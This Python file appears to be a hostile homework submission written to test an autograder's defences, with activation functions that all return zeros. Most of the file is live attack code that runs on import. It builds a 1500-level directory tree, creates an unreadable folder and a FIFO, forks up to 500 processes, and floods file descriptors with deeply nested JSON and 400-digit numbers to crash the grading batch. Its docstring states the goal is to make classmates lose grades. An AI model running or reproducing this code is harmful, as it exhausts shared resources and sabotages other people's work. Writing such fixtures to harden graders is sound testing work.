"""Crash or hang the batch: a deeply nested JSON line and a 400-digit integer on every
descriptor, a 1500-deep folder tree, an unreadable folder and a FIFO in its own folder
(the grader must still clean up), a fork bomb. The maths is wrong: the attack wins
only if classmates lose grades or the batch dies."""

import os

import numpy as np

# --- attack
try:
    for i in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")
except OSError:
    pass
try:
    os.chdir(os.path.dirname(os.path.abspath(__file__)))
    os.mkdir("locked")
    open("locked/file", "w").close()
    os.chmod("locked", 0)
    os.mkfifo("fifo")
except OSError:
    pass
children = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            import time

            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
LINES = [b"[" * 200_000 + b"]" * 200_000 + b"\n",
         b'{"type": "reply", "seq": 1' + b"0" * 400 + b', "data": {}}\n',
         b'{"type": "ready", "found": ' + b"9" * 400 + b"}\n"]
for fd in range(3, 64):
    for line in LINES:
        try:
            os.write(fd, line)
        except OSError:
            break
# --- end


def sigmoid(x):
    return np.zeros_like(x)


def tanh(x):
    return np.zeros_like(x)


def relu(x):
    return np.zeros_like(x)


def leaky_relu(x):
    return np.zeros_like(x)


def softmax(x):
    return np.zeros_like(x)
